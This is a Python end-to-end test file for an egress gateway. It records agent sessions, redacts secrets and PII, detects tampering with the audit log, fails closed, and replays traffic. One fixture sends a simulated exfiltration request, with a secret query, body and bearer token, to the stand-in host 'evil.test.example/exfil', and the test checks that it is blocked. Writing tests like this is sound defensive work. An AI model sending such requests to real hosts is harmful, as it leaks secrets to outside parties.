"""End to end: a real gateway records an agent-like session; files, secrets, verify, kill -9,
failing closed, server/client replay, the replay command."""

from __future__ import annotations

import base64
import json
import os
import shutil
import signal
import socket
import ssl
import subprocess
import threading
import time
import urllib.request
import uuid
from pathlib import Path

import httpx
import pytest
from egress_gateway.recording import verify as verify_mod
from gwharness import REPO, RUN, Gateway, Upstream, free_port, policy_yaml
from mitmproxy import io as mio

PIN = "api.test.example"
PROXY_PW = "proxy-pw-SECRET-7f3a"
BEARER = "sk-ant-api03-SECRET-bearer-9c1d"
REFUSED_BODY = "REFUSED-BODY-SECRET-41b2"
REFUSED_QUERY = "refusedquerysecret88"
PII_EMAIL = "alice.wonder@example.com"


def echo(record):
    return 200, {"Content-Type": "application/json"}, json.dumps(
        {"echo": record["body"], "path": record["path"]}).encode()


def proxy_for(gw: Gateway, sid: str) -> str:
    return f"http://{sid}:{PROXY_PW}@127.0.0.1:{gw.port}"


def flows_in(path: Path) -> list:
    with open(path, "rb") as fh:
        return list(mio.FlowReader(fh).stream())


def all_flows(directory: Path) -> dict[str, list]:
    return {p.name: flows_in(p) for p in sorted(directory.rglob("*.mitm"))}


def run_cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([str(RUN), *args], cwd=REPO, capture_output=True, text=True,
                          timeout=120, env={**os.environ, **(env or {})})


# --- a websocket echo upstream on loopback ---------------------------------------------------------
class WsUpstream:
    def __init__(self):
        from websockets.sync.server import serve

        def handler(ws):
            for msg in ws:
                ws.send(f"echo:{msg}")

        self.server = serve(handler, "127.0.0.1", 0)
        self.port = self.server.socket.getsockname()[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()


def ws_roundtrip(gw_port: int, port: int, text: str) -> str:
    """A WebSocket through the gateway (plain HTTP proxy, absolute-form upgrade)."""
    key = base64.b64encode(os.urandom(16)).decode()
    with socket.create_connection(("127.0.0.1", gw_port), timeout=5) as s:
        s.sendall((f"GET http://{PIN}:{port}/ws HTTP/1.1\r\nHost: {PIN}:{port}\r\n"
                   f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                   f"Sec-WebSocket-Version: 13\r\nX-Agent-Session: ws-agent\r\n\r\n").encode())
        head = b""
        while b"\r\n\r\n" not in head:
            head += s.recv(4096)
        assert head.startswith(b"HTTP/1.1 101"), head
        payload, mask = text.encode(), os.urandom(4)
        s.sendall(bytes([0x81, 0x80 | len(payload)]) + mask
                  + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
        data = head.split(b"\r\n\r\n", 1)[1]
        while len(data) < 2 or len(data) < 2 + data[1]:
            data += s.recv(4096)
        answer = data[2:2 + data[1]].decode()
        s.sendall(bytes([0x88, 0x82]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(b"\x03\xe8")))
        time.sleep(0.2)
    return answer


# --- the recorded session (once per module) ----------------------------------------------------------
@pytest.fixture(scope="module")
def session_run(tmp_path_factory, confdir, cert_dir):
    work = tmp_path_factory.mktemp("recsession")
    up = Upstream("plain", handler=echo)
    tls = Upstream("tls", tls=True, cert_dir=cert_dir, handler=echo)
    ws = WsUpstream()
    policy = policy_yaml(allow=[{"host": PIN, "ports": [up.port, tls.port, ws.port]}],
                         resolve={PIN: "127.0.0.1"})
    # recordings beside the harness's audit log (work/audit.jsonl): verify DIR finds both
    gw = Gateway(work, policy, confdir=confdir, extra_args=["--set", f"gateway_recordings={work}"])
    out: dict = {"gw": gw, "up": up, "tls": tls, "dir": work}
    try:
        agent = proxy_for(gw, "agent-1")
        out["allowed"] = httpx.post(
            f"http://{PIN}:{up.port}/v1/messages?beta=true", proxy=agent,
            headers={"Authorization": f"Bearer {BEARER}"},
            json={"messages": [{"role": "user", "content": f"Write to {PII_EMAIL} please"}]})
        out["refused"] = httpx.post(
            f"http://evil.test.example:{up.port}/exfil?k={REFUSED_QUERY}", proxy=agent,
            content=REFUSED_BODY.encode(), headers={"Authorization": f"Bearer {BEARER}"})
        ctx = ssl.create_default_context(cafile=gw.ca_cert)
        with httpx.Client(proxy=agent, verify=ctx) as c:  # session from the CONNECT
            out["tls_answer"] = c.get(f"https://{PIN}:{tls.port}/secure")
        out["header_session"] = httpx.get(f"http://{PIN}:{up.port}/h", proxy=gw.proxy,
                                          headers={"X-Agent-Session": "agent-2"})
        out["anonymous"] = httpx.get(f"http://{PIN}:{up.port}/anon", proxy=gw.proxy)
        out["ws_answer"] = ws_roundtrip(gw.port, ws.port, "hello-ws")
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not any(
                line.get("kind") == "websocket" for line in gw.audit()):
            time.sleep(0.05)
    finally:
        gw.stop()  # a clean shutdown writes the checkpoint
    try:
        yield out
    finally:
        up.close()
        tls.close()
        ws.close()


def test_session_answers(session_run):
    r = session_run
    assert r["allowed"].status_code == 200
    assert r["refused"].status_code == 403 and r["refused"].headers["x-egress-gateway"] == "blocked"
    assert r["tls_answer"].status_code == 200 and r["header_session"].status_code == 200
    assert r["ws_answer"] == "echo:hello-ws"


def test_identity_headers_never_forwarded(session_run):
    for req in session_run["up"].requests + session_run["tls"].requests:
        assert "proxy-authorization" not in req["headers"]
        assert "x-agent-session" not in req["headers"]


def test_one_file_per_session_readable_by_flowreader(session_run):
    files = all_flows(session_run["dir"])
    assert set(files) == {"agent-1.mitm", "agent-2.mitm", "127.0.0.1.mitm", "ws-agent.mitm"}
    paths = sorted(f.request.path for f in files["agent-1.mitm"])
    assert paths == ["/exfil", "/secure", "/v1/messages?beta=true"]
    for name, flows in files.items():
        for f in flows:
            assert f.metadata["gateway"]["session"] == name[:-len(".mitm")]
    day = next(session_run["dir"].glob("????-??-??"))
    assert day.name == time.strftime("%Y-%m-%d", time.gmtime())


def test_mitmdump_reads_recordings(session_run):
    path = next(session_run["dir"].rglob("agent-1.mitm"))
    res = subprocess.run([str(REPO / ".venv" / "bin" / "mitmdump"), "-nr", str(path)],
                         capture_output=True, text=True, timeout=60)
    assert res.returncode == 0, res.stderr
    assert "/v1/messages" in res.stdout and "evil.test.example" in res.stdout and "403" in res.stdout


def test_refused_flow_recorded_with_reason_and_refusal(session_run):
    (refused,) = [f for f in all_flows(session_run["dir"])["agent-1.mitm"] if f.request.path == "/exfil"]
    meta = refused.metadata["gateway"]
    assert meta["decision"] == "blocked" and "allowlist" in meta["reason"]
    assert refused.response.status_code == 403
    assert json.loads(refused.response.content)["error"] == "blocked"
    assert meta["recording"]["forwarded"] is False
    assert meta["recording"]["request_body_dropped"] == len(REFUSED_BODY)
    assert refused.request.content == b""


def test_recorded_request_is_what_the_upstream_received(session_run):
    (allowed,) = [f for f in all_flows(session_run["dir"])["agent-1.mitm"]
                  if f.request.path.startswith("/v1/messages")]
    (received,) = [r for r in session_run["up"].requests if r["path"].startswith("/v1/messages")]
    assert allowed.request.content.decode() == received["body"]
    assert allowed.response.content == session_run["allowed"].content  # as returned to the agent
    assert allowed.metadata["gateway"]["recording"]["forwarded"] is True


def test_no_raw_secret_in_any_file(session_run):
    blobs = b"".join(p.read_bytes() for p in session_run["dir"].rglob("*") if p.is_file())
    for secret in (PROXY_PW, BEARER, REFUSED_BODY, REFUSED_QUERY):
        assert secret.encode() not in blobs, secret
    assert base64.b64encode(f"agent-1:{PROXY_PW}".encode()) not in blobs


def test_pii_redacted_in_recordings(session_run):
    """Meaningful once a redaction addon sets metadata["gateway"]["redactions"] (it does now)."""
    (allowed,) = [f for f in all_flows(session_run["dir"])["agent-1.mitm"]
                  if f.request.path.startswith("/v1/messages")]
    redactions = allowed.metadata["gateway"].get("redactions")
    if not redactions:
        pytest.skip("no redaction addon in the bundle")
    assert redactions["request"].get("EMAIL_ADDRESS", 0) >= 1
    blobs = b"".join(p.read_bytes() for p in session_run["dir"].rglob("*") if p.is_file())
    assert PII_EMAIL.encode() not in blobs
    lines = [line for line in session_run["gw"].audit() if line.get("path") == "/v1/messages"]
    assert lines[0]["redactions"] == redactions


def test_websocket_messages_recorded(session_run):
    (ws,) = all_flows(session_run["dir"])["ws-agent.mitm"]
    assert [m.content for m in ws.websocket.messages] == [b"hello-ws", b"echo:hello-ws"]
    (line,) = [x for x in session_run["gw"].audit() if x.get("kind") == "websocket"]
    assert line["websocket_messages"] == 2 and line["bytes_out"] == 8 and line["bytes_in"] == 13


def test_audit_lines_reference_recordings(session_run):
    lines = session_run["gw"].audit()
    recorded = [x for x in lines if "recording" in x]
    assert len(recorded) == 6  # 5 HTTP flows and the WebSocket; the CONNECT is audited only
    assert [x["seq"] for x in lines] == list(range(1, len(lines) + 1))
    everything = session_run["gw"].audit(everything=True)
    assert everything[-1]["kind"] == "gateway" and everything[-1]["seq"] == len(lines) + 1
    by_session = {x["session"] for x in lines}
    assert {"agent-1", "agent-2", "127.0.0.1", "ws-agent"} <= by_session
    refused = [x for x in lines if x.get("path") == "/exfil"][0]
    assert refused["decision"] == "blocked" and refused["status"] == 403


# --- verify: untouched, then each kind of tampering -----------------------------------------------
def test_verify_command_passes_on_untouched_directory(session_run):
    res = run_cli("verify", str(session_run["dir"]))
    assert res.returncode == 0, res.stderr
    assert "OK: " in res.stdout and "6 recorded flows" in res.stdout


def _swap(lines):
    lines[1], lines[2] = lines[2], lines[1]
    return lines


def _edit(lines):
    lines[2] = lines[2].replace('"agent-1"', '"agent-9"', 1)
    return lines


@pytest.mark.parametrize("tamper,expect", [
    (_edit, "line 3: seq 3 was changed"),
    (lambda ls: ls[:1] + ls[2:], "line 2: seq 2 missing"),
    (_swap, "line 2: seq 3 where seq 2 was expected: lines reordered"),
    (lambda ls: ls[:-2], "line-count: line(s) cut off the end"),
    ("recording", "recording was modified"),
], ids=["edited-line", "deleted-line", "swapped-lines", "cut-off-tail", "modified-recording"])
def test_verify_command_names_the_tampering(session_run, tmp_path, tamper, expect):
    d = tmp_path / "copy"
    shutil.copytree(session_run["dir"], d)
    log = d / "audit.jsonl"
    lines = log.read_text().splitlines(keepends=True)
    if tamper == "recording":
        path = next(d.rglob("agent-2.mitm"))
        path.write_bytes(path.read_bytes().replace(b"/h", b"/H"))
        (line_no,) = [i for i, x in enumerate(lines, 1) if '"session":"agent-2"' in x]
        expect = f"line {line_no}: recording {path.relative_to(d)}"
    else:
        log.write_text("".join(tamper(lines)))
        if expect.startswith("line-count"):
            expect = f"line {len(lines) - 1}: the log ends at seq {len(lines) - 2}"
    res = run_cli("verify", str(d))
    assert res.returncode == 1
    assert expect in res.stderr.splitlines()[0], res.stderr


# --- the audit report ------------------------------------------------------------------------------
def test_audit_command_on_a_recorded_session(session_run, tmp_path):
    out_json, out_html = tmp_path / "r.json", tmp_path / "r.html"
    res = run_cli("audit", str(session_run["dir"]), "--json", str(out_json), "--html", str(out_html))
    assert res.returncode == 0, res.stderr
    assert "integrity: OK" in res.stdout and "agent-1" in res.stdout
    doc = json.loads(out_json.read_text())
    by = {s["session"]: s for s in doc["sessions"]}
    assert set(by) >= {"agent-1", "agent-2", "127.0.0.1", "ws-agent"}
    agent = by["agent-1"]
    assert len(agent["refused"]) == 1 and agent["refused"][0]["path"] == "/exfil"
    assert sum(agent["hosts"].values()) == 2  # the refused request did not leave
    assert agent["bytes_out"] > 0 and doc["integrity"]["ok"] is True
    assert "agent-1" in out_html.read_text()


# --- kill -9 ---------------------------------------------------------------------------------------
def test_kill_9_loses_nothing_completed(tmp_path, confdir, upstream):
    policy = policy_yaml(allow=[{"host": PIN, "ports": [upstream.port]}], resolve={PIN: "127.0.0.1"})
    gw = Gateway(tmp_path, policy, confdir=confdir)
    try:
        with httpx.Client(proxy=proxy_for(gw, "k9")) as c:
            for i in range(20):
                assert c.post(f"http://{PIN}:{upstream.port}/n{i}", content=b"x" * 100).status_code == 200
        os.killpg(gw.proc.pid, signal.SIGKILL)
        gw.proc.wait(10)
    finally:
        gw.stop()
    (path,) = tmp_path.rglob("k9.mitm")
    assert [f.request.path for f in flows_in(path)] == [f"/n{i}" for i in range(20)]
    res = verify_mod.verify(tmp_path)
    assert res.ok, res.problems
    assert res.flows == 20


# --- failing closed --------------------------------------------------------------------------------
def test_unwritable_recordings_stop_startup(tmp_path, confdir):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory")
    gw = Gateway(tmp_path, policy_yaml(allow=[{"host": PIN}]), confdir=confdir, wait=False,
                 extra_args=["--set", f"gateway_recordings={blocker / 'rec'}"])
    try:
        assert gw.proc.wait(60) != 0
        text = gw.log_text()
        assert f"cannot write recordings to gateway_recordings={blocker / 'rec'}" in text
        assert "gateway ready" not in text
    finally:
        gw.stop()


def test_recordings_failing_at_run_time_refuse_traffic(tmp_path, confdir, upstream):
    rec = tmp_path / "rec"
    policy = policy_yaml(allow=[{"host": PIN, "ports": [upstream.port]}], resolve={PIN: "127.0.0.1"})
    # max_bytes=1: every flow opens a new file, so a broken directory shows on the next flow
    gw = Gateway(tmp_path, policy, confdir=confdir,
                 extra_args=["--set", f"gateway_recordings={rec}",
                             "--set", "gateway_recording_max_bytes=1"])
    url = f"http://{PIN}:{upstream.port}/"
    try:
        with httpx.Client(proxy=gw.proxy) as c:
            assert c.get(url + "ok").status_code == 200
            moved = tmp_path / "rec-moved"
            rec.rename(moved)
            rec.write_text("the directory is gone; a regular file is in its way")
            r = c.get(url + "lost")  # forwarded, but its answer is withheld: it cannot be recorded
            assert r.status_code == 503 and r.headers["x-egress-gateway"] == "recording_failed"
            before = len(upstream.requests)
            r = c.get(url + "refused")
            assert r.status_code == 503 and r.headers["x-egress-gateway"] == "recording_failed"
            assert "cannot record" in r.json()["reason"]
            assert len(upstream.requests) == before  # nothing forwarded while recordings fail
            assert "RECORDING FAILED" in gw.log_text()
            rec.unlink()
            moved.rename(rec)
            time.sleep(1.1)  # the probe runs at most once a second
            assert c.get(url + "again").status_code == 200
    finally:
        gw.stop()
    assert "recording_failed" in {x.get("code") for x in gw.audit()}


# --- replay ----------------------------------------------------------------------------------------
def test_server_replay_serves_recorded_bodies_with_upstream_off(tmp_path, confdir):
    up = Upstream("plain", handler=lambda rec: (200, {"Content-Type": "text/plain"},
                                                 f"{uuid.uuid4()} for {rec['path']}".encode()))
    policy = policy_yaml(allow=[{"host": PIN, "ports": [up.port]}], resolve={PIN: "127.0.0.1"})
    rec_dir = tmp_path / "first"
    rec_dir.mkdir()
    gw = Gateway(rec_dir, policy, confdir=confdir)
    paths = ["/a", "/b?x=1", "/c"]
    try:
        with httpx.Client(proxy=proxy_for(gw, "run1")) as c:
            originals = [c.post(f"http://{PIN}:{up.port}{p}", content=b"q").text for p in paths]
    finally:
        gw.stop()
        up.close()
    (recording,) = rec_dir.rglob("run1.mitm")
    replay_dir = tmp_path / "replay"
    replay_dir.mkdir()
    gw = Gateway(replay_dir, policy, confdir=confdir, extra_args=[
        "--server-replay", str(recording), "--set", "server_replay_extra=kill",
        "--set", "server_replay_reuse=true"])
    try:
        with httpx.Client(proxy=proxy_for(gw, "run1-replay")) as c:
            replayed = [c.post(f"http://{PIN}:{up.port}{p}", content=b"q").text for p in paths]
            with pytest.raises(httpx.RemoteProtocolError):  # not recorded: killed, not forwarded
                c.post(f"http://{PIN}:{up.port}/never-recorded", content=b"q")
    finally:
        gw.stop()
    assert replayed == originals


def test_client_replay_goes_through_the_current_policy(session_run, tmp_path, confdir):
    recording = next(session_run["dir"].rglob("agent-2.mitm"))
    # the current policy no longer allows the recorded host
    gw = Gateway(tmp_path, policy_yaml(allow=[{"host": "other.test.example"}]), confdir=confdir,
                 extra_args=["-C", str(recording)])
    try:
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline and not gw.audit():
            time.sleep(0.1)
    finally:
        gw.stop()
    (line,) = gw.audit()
    assert line["decision"] == "blocked" and line["session"] == "replay-agent-2"
    assert line["path"] == "/h" and line["status"] == 403


def test_replay_command_opens_recording_in_mitmweb(session_run):
    recording = next(session_run["dir"].rglob("agent-1.mitm"))
    port = free_port()
    proc = subprocess.Popen([str(RUN), "replay", str(recording), "--web-port", str(port),
                             "--set", "web_password=audit"], cwd=REPO, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, start_new_session=True)
    try:
        flows = None
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                req = urllib.request.Request(f"http://127.0.0.1:{port}/flows",
                                             headers={"Authorization": "Bearer audit"})
                flows = json.loads(urllib.request.urlopen(req, timeout=2).read())
                if flows:
                    break
            except OSError:
                time.sleep(0.2)
        assert flows and sorted(f["request"]["path"] for f in flows) == [
            "/exfil", "/secure", "/v1/messages?beta=true"]
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        output = proc.communicate(timeout=10)[0].decode(errors="replace")
    assert "Web server listening" in output
    assert "proxy listening" not in output  # -n: no proxy server, nothing can be forwarded
